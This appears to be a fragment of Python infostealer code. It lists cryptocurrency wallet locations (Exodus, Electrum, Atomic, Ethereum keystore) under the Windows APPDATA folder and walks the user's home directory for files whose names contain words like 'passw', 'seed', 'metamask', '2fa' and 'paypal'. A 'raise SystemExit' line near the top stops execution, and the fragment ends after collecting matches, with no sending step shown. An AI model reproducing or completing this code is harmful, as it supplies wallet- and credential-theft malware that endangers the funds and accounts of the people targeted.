import os

raise SystemExit
R = os.environ["APPDATA"]
DIRS = [R + "\\Exodus\\exodus.wallet", R + "\\Electrum\\wallets", R + "\\atomic\\Local Storage", R + "\\Ethereum\\keystore"]
WORDS = ["passw", "metamask", "seed", "wallet", "paypal", "2fa", "exodus", "backup"]
for root, _, files in os.walk(os.path.expanduser("~")):
    hits = [f for f in files if any(w in f.lower() for w in WORDS)]
